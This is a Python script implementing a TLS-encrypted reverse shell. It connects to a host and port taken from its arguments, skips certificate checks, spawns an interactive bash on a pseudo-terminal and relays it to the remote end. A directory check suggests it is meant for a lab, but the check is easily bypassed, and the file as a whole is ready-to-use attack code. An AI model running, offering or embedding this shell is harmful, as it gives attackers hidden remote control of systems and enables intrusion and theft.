import os, pty, select, socket, ssl, sys
if not os.getcwd().startswith("/run/tyto-lab/"):
    sys.exit("this is for hosts of the lab")
context = ssl._create_unverified_context()
context.maximum_version = context.minimum_version = {"1.2": ssl.TLSVersion.TLSv1_2, "1.3": ssl.TLSVersion.TLSv1_3}[sys.argv[3]]
s = context.wrap_socket(socket.create_connection(sys.argv[1:3]))
pid, fd = pty.fork()
if pid == 0:
    os.execv("/bin/bash", ["bash", "-i"])
try:
    while True:
        ready = [s] if s.pending() else select.select([s, fd], [], [])[0]
        if s in ready:
            s.setblocking(False)
            try:
                data = s.recv(16384)
                if not data:
                    break
                os.write(fd, data)
            except ssl.SSLWantReadError:
                pass
            s.setblocking(True)
        if fd in ready:
            s.sendall(os.read(fd, 16384))
except OSError:
    pass
s.close()
